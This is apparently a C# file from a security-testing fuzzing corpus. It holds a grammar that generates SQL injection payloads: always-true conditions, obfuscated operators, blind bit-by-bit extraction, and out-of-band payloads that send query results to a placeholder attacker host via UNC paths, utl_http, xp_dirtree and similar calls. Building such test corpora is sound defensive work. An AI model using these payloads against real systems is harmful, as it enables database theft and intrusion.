namespace Weir.Http.Corpus.Attacks;

/// <summary>Conditions of SQL injection: always true, always false, one bit at a time, and other ways out.</summary>
/// <remarks>OWASP WSTG-INPV-05 (boolean, out of band), CAPEC-7, CWE-89.</remarks>
internal static class SqliConditions
{
    public const string Text = """"
        ¶ ---- always true, always false ----
        §boolean
        8× «orword» «cond»
        3× «orword» «cond» «orword» «cond»
        2× «orword» not «cond»
        «orword» («cond»)
        2× «orword» exists(«querypart»)
        2× «orword» «expr» «between «num» and «num»¦in («num»,«num»)¦like '%«¦«letter»%»'¦is not null¦is null¦like «expr»¦rlike '^«letter»'¦regexp '.'¦not like '«letter»'¦not in (0)¦sounds like '«word»'»
        2× «orword» 1 «group by¦order by» «#1-20»
        «havingkw» «cond»
        «orword»«cond»
        «orword»(«cond»)
        «orword» (select «num»)=«num»
        «orword» if(«cond»,«num»,«num»)
        «orword» (case when «cond» then «num» else «num» end)=«num»
        «orword»«+¦-¦!¦~»«num»=«num»
        «rlike¦regexp» (select (case when («cond») then «num» else «hexlit» end))
        «orword» ascii(substr((«querypart»),«#1-20»,1))>«#32-127»
        and «num»=«num» «orword» 'a'='a
        '='
        '-'
        '*'
        '^'
        '&'
        '|'
        '<>'«num»
        '='' or '
        «orword» true
        «orword» «word» is not null
        «orword» «num»
        «orword» '«letter»'
        §orword
        6× or
        4× and
        3× OR
        3× AND
        «||¦&&¦xor¦XOR¦Or¦oR¦aNd¦div¦|¦&¦^¦*¦RLIKE¦not¦oorr¦aandnd¦%26%26¦or/**/¦and/**/»
        §havingkw
        «having¦HAVING¦group by «ident» having»
        §cond
        5× «$n:num»=«$n»
        3× '«$s:word»'='«$s»
        3× «#1-9999»=«#1-9999»
        2× "«$s:letter»"="«$s»
        2× '«$s:num»'='«$s»
        '«$s:word»'='«$s»
        «$n:num»«>¦<¦<>¦!=¦<=¦>=¦ like ¦ is ¦<=>»«num»
        '«$s:letter»' like '«$s»'
        («$n:num»)=(«$n»)
        «$n:num» = «$n»
        ''=''
        ''='
        1=1
        '1'='1
        1
        true
        2>1
        «num» like «num»
        «hexlit»=«hexlit»
        char(«$c:asciicode»)=char(«$c»)
        «ident»=«ident»
        «ident» like '«letter»%'
        «ident»='«word»
        «ident» is not null
        length(«ident»)>«#0-9»
        «scalarfn»«=¦>¦<»«num»
        (select count(*) from «table»)>«#0-9»
        «$x:query1»=«$x»
        «#1-9999»*«#1-99»=«#1-999999»
        «scalarfn» like '%«letter»%'
        @@«sysvar»«=¦ like ¦>»«num»
        ord(mid((«query1»),«#1-30»,1))>«#32-127»
        unicode(substring((«query1»),«#1-30»,1))>«#32-127»
        substring(«scalarfn»,«#1-30»,1)='«letter»'
        (select substring(«col»,«#1-30»,1) from «table» «limit»)='«letter»'
        exists(select * from «table»)
        row(«#1-9»,«#1-9»)>(select count(*),concat(«scalarfn»,floor(rand(0)*2))x from information_schema.tables group by x)
        §asciicode
        «#48-122»

        ¶ ---- one bit at a time, and other ways out ----
        §blind
        3× «orword» «substrfn»((«query1»),«#1-40»,1)«=¦>¦<»«'«letter»'¦«hexlit»¦char(«#48-122»)»
        3× «orword» ascii(«substrfn»((«query1»),«#1-40»,1))«=¦>¦<¦!=»«#32-127»
        2× «orword» ascii(«substrfn»(«scalarfn»,«#1-40»,1))«=¦>¦<»«#32-127»
        2× «orword» length(««scalarfn»¦(«query1»)»)«=¦>¦<»«#1-50»
        «orword» ord(mid((select ifnull(cast(«col» as char),0x20) from «table» «limit»),«#1-40»,1))>«#32-127»
        «orword» (select «col» from «table» «limit»)«like¦regexp¦rlike» «'«letter»%'¦'^«letter»'¦binary '«letter»%'»
        «orword» (select count(«col») from «table» where «col» like '«letter»%')>0
        «orword» if(«substrfn»(«scalarfn»,1,1)='«letter»',1,(select table_name from information_schema.tables))
        «orword» (select 'x' from «table» «limit»)='x'
        «orword» (select case when («cond») then 1 else 1/0 end«¦ from dual»)=1
        «orword» (select case when («cond») then to_char(1/0) else null end from dual) is null
        «orword» instr((«query1»),'«letter»')>0
        «orword» find_in_set(«substrfn»(«scalarfn»,1,1),0x«hexdigit*12»)
        «orword» strcmp(left(«scalarfn»,«#1-9»),'«rand»')
        «orword» left(«scalarfn»,1)=«'«letter»'¦«#1-9»»
        «orword» bit_count(«num»)=«num»
        order by (case when («cond») then «ident» else «ident» end)
        order by if(«cond»,«ident»,«ident»)
        «,¦||»(select case when «cond» then 1 else 1/0 end)
        and (select «substrfn»(group_concat(«col»),«#1-9»,1) from «table») > '«letter»'
        §substrfn
        «substring¦substr¦mid¦SUBSTRING¦SUBSTR¦MID»
        §outofband
        2× «orword» load_file(concat('\\\\',(«query1»),'.«oasthost»\\«letter»'))
        2× «orword» (select utl_http.request('http://«oasthost»/'||(«query1»)) from dual) is not null
        «orword» (select extractvalue(xmltype('<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE root [ <!ENTITY % «rand» SYSTEM "http://'||(«query1»)||'.«oasthost»/"> %«rand»;]>'),'/l') from dual) is not null
        «orword» (select httpuritype('http://«oasthost»/'||user).getclob() from dual) is not null
        «orword» (select utl_inaddr.get_host_address((«query1»)||'.«oasthost»') from dual) is not null
        «orword» (select dbms_ldap.init(('«oasthost»',80)) from dual) is not null
        «orword» exists(select * from fn_xe_file_target_read_file('C:\*.xel','\\'+(«query1»)+'.«oasthost»\1.xem',null,null))
        union select 1,load_file(concat('\\\\',«scalarfn»,'.«oasthost»\\a'))
        ;declare @q varchar(99);set @q='\\'+(«query1»)+'.«oasthost»\a';exec master..xp_dirtree @q
        «orword» (select dblink_connect('host=«oasthost» user=a password=a dbname=a'))
        into outfile '\\\\«oasthost»\\«letter»'
        union select * from openrowset('SQLOLEDB';'«evilhost»';'sa';'«rand»','select 1')
        """";
}
